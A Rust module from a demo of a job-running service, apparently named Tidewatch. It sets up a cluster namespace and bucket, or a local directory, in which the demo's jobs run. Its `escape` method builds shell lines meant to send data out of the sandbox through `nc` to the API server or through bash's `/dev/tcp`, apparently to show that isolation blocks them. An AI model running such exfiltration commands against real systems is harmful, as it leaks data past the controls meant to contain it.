//! Where the demo's jobs run and its bytes lie: a place of its own in a cluster with a bucket, or a directory of this machine.

use std::path::Path;

use anyhow::bail;
use bytes::Bytes;

use super::equipment::ClusterParts;
use super::machine::Machine;
use super::place::Place;
use super::store::{ANY_KEY, Bucket};
use crate::app::cli::DemoOptions;
use crate::app::config::Environment;
use crate::cluster;

/// What runs the demo's jobs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// A cluster.
    Kubernetes,
    /// Processes of this machine.
    Process,
}

impl Kind {
    /// The engine that was asked for; unless one was, a cluster where one is at hand, else processes, which need nothing.
    pub(super) fn choose(options: &DemoOptions, environment: &Environment) -> anyhow::Result<Self> {
        match options.engine.as_str() {
            "kubernetes" => Ok(Self::Kubernetes),
            "process" => Ok(Self::Process),
            "auto" if is_cluster_at_hand(environment) => Ok(Self::Kubernetes),
            "auto" => Ok(Self::Process),
            other => bail!("--engine is {other:?}, not auto, kubernetes or process"),
        }
    }

    /// The engine, and how to get the other one.
    pub(super) const fn told(self) -> &'static str {
        match self {
            Self::Kubernetes => "engine: Kubernetes; --engine process needs no cluster",
            Self::Process => {
                "engine: process; --engine kubernetes shows the real walls, in the cluster of KUBECONFIG or one of its own (as root on Debian)"
            }
        }
    }
}

/// A cluster that the user named, or the one of `tests/cluster` where it stands and this may use it.
fn is_cluster_at_hand(environment: &Environment) -> bool {
    let own = Path::new(cluster_directory(environment)).join("admin.conf");
    environment.get("KUBECONFIG").is_some() || rustix::process::geteuid().is_root() && own.exists()
}

/// Directory of the cluster of `tests/cluster`.
pub(super) fn cluster_directory(environment: &Environment) -> &str {
    environment
        .get("TIDEWATCH_CLUSTER")
        .unwrap_or("/tmp/tidewatch-cluster")
}

/// The demo's own place.
pub(super) enum Site {
    /// In a cluster.
    Cluster {
        /// What it stands on.
        parts: ClusterParts,
        /// The namespace.
        place: Place,
        /// The bucket.
        bucket: Bucket,
    },
    /// On this machine.
    Machine(Machine),
}

impl Site {
    /// Makes it, under that name, for nothing else.
    pub(super) async fn make(
        parts: Option<ClusterParts>,
        name: &str,
        state: &Path,
        (options, environment): (&DemoOptions, &Environment),
    ) -> anyhow::Result<Self> {
        let Some(parts) = parts else {
            return Ok(Self::Machine(Machine::make(state)?));
        };
        let bucket = Bucket::make(&parts.s3, name).await?;
        let client = cluster::connect(Some(&parts.kubeconfig)).await?;
        // a cluster of the user's own gets the definition only when the user named the engine
        let definition = environment.get("KUBECONFIG").is_none() || options.engine == "kubernetes";
        let place = Place::make(client, name, definition).await?;
        place.secret("results", &store_options(&parts)).await?;
        Ok(Self::Cluster {
            parts,
            place,
            bucket,
        })
    }

    /// What was made, for telling.
    pub(super) fn told(&self, name: &str) -> String {
        match self {
            Self::Cluster { .. } => format!("namespace and bucket {name}, for this demo alone"),
            Self::Machine(machine) => machine.told(),
        }
    }

    /// Puts the publisher's file where only `configure` fetches it, and answers its address.
    pub(super) async fn publish(&self, key: &str, body: &'static str) -> anyhow::Result<String> {
        match self {
            Self::Cluster { bucket, .. } => bucket.publish(key, body).await,
            Self::Machine(machine) => machine.publish(key, body),
        }
    }

    /// Reads what publishing stored.
    pub(super) async fn result(&self, key: &str) -> anyhow::Result<Bytes> {
        match self {
            Self::Cluster { bucket, .. } => bucket.get(&format!("results/{key}")).await,
            Self::Machine(machine) => machine.result(key),
        }
    }

    /// The image for algorithms: by digest where images are run.
    pub(super) fn image(&self) -> &str {
        match self {
            Self::Cluster { parts, .. } => &parts.algorithm_image,
            Self::Machine(_) => "docker.io/library/busybox",
        }
    }

    /// A line of shell that tries to send the data away: to the API server, or to the chain's node, which does answer us.
    pub(super) fn escape(&self, node: &url::Url) -> String {
        match self {
            Self::Cluster { .. } => "nc -w 2 10.96.0.1 443".to_owned(),
            Self::Machine(_) => {
                let (host, port) = (
                    node.host_str().unwrap_or_default(),
                    node.port().unwrap_or_default(),
                );
                format!("bash -c 'cat > /dev/tcp/{host}/{port}'")
            }
        }
    }

    /// The variables by which the service finds it.
    pub(super) fn variables(&self) -> Vec<(&'static str, String)> {
        match self {
            Self::Cluster { parts, place, .. } => {
                let mut variables = vec![
                    (
                        "KUBECONFIG",
                        parts.kubeconfig.to_string_lossy().into_owned(),
                    ),
                    ("TIDEWATCH_NAMESPACE", place.name().to_owned()),
                    ("TIDEWATCH_IMAGE", parts.image.clone()),
                    (
                        "TIDEWATCH_RESULTS_URL",
                        format!("s3://{}/results", place.name()),
                    ),
                    ("TIDEWATCH_RESULTS_SECRET", "results".to_owned()),
                ];
                let store = store_options(parts);
                variables.extend(store.map(|(name, value)| (name, value.to_owned())));
                variables
            }
            Self::Machine(machine) => machine.variables(),
        }
    }

    /// How often the algorithm of a job was started.
    pub(super) async fn algorithm_starts(&self, job: &str) -> anyhow::Result<usize> {
        match self {
            Self::Cluster { place, .. } => place.algorithm_pods(job).await,
            Self::Machine(machine) => machine.algorithm_starts(job),
        }
    }

    /// The workflows that are there now.
    pub(super) async fn workflows(&self) -> anyhow::Result<usize> {
        match self {
            Self::Cluster { place, .. } => place.workflows().await,
            Self::Machine(machine) => machine.workflows(),
        }
    }

    /// A command that shows it.
    pub(super) fn invitation(&self) -> String {
        match self {
            Self::Cluster { parts, place, .. } => {
                let (config, name) = (parts.kubeconfig.display(), place.name());
                format!("kubectl --kubeconfig {config} -n {name} get cw,pods")
            }
            Self::Machine(machine) => machine.invitation(),
        }
    }

    /// Removes it, once the service has ended.
    pub(super) async fn remove(self) -> anyhow::Result<()> {
        match self {
            Self::Cluster { place, .. } => place.remove().await,
            Self::Machine(machine) => machine.remove(),
        }
    }
}

/// How the demo's bucket is come by.
fn store_options(parts: &ClusterParts) -> [(&'static str, &str); 5] {
    [
        ("AWS_ACCESS_KEY_ID", ANY_KEY),
        ("AWS_SECRET_ACCESS_KEY", ANY_KEY),
        ("AWS_REGION", "us-east-1"),
        ("AWS_ENDPOINT_URL", parts.s3.as_str()),
        ("AWS_ALLOW_HTTP", "true"),
    ]
}
